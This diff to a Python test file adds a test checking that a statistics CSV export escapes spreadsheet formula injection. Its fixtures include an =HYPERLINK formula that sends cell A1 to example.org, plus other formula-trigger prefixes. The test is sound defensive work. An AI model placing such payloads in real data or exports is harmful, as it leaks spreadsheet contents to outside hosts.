@@ -81,3 +81,25 @@ def test_statistics_anonymous_redirected_and_user_without_a_role_gets_403(client
     assert client.get(reverse("responses:statistics")).status_code == 302
     client.force_login(UserFactory())
     assert client.get(reverse("responses:statistics")).status_code == 403
+
+
+def test_statistics_csv_cells_cannot_run_as_spreadsheet_formulas(client, council_office):
+    """Names come from people and imports; a spreadsheet must show them, not run them."""
+    today = timezone.localdate()
+    committee = CommitteeFactory(name='=HYPERLINK("https://example.org/?"&A1,"Klick")')
+    InquiryFactory(committee=committee, received_on=today)
+    for code in ("+49", "-1", "@SUM(A1)", "\tTab", "\rCR"):
+        department = DepartmentFactory(code=code)
+        QuestionFactory(inquiry=InquiryFactory(status=Inquiry.Status.IN_PROGRESS), lead_department=department)
+    client.force_login(council_office)
+    rows = list(
+        csv.reader(
+            io.StringIO(client.get(reverse("responses:statistics"), {"format": "csv"}).content.decode())
+        )
+    )
+    cells = [cell for row in rows for cell in row]
+    assert f"'{today.year} =HYPERLINK" not in cells  # the year comes first: harmless as it is
+    assert any(cell.startswith(f"{today.year} =HYPERLINK") for cell in cells)
+    for code in ("+49", "-1", "@SUM(A1)", "\tTab", "\rCR"):
+        assert f"'{code}" in cells, code
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
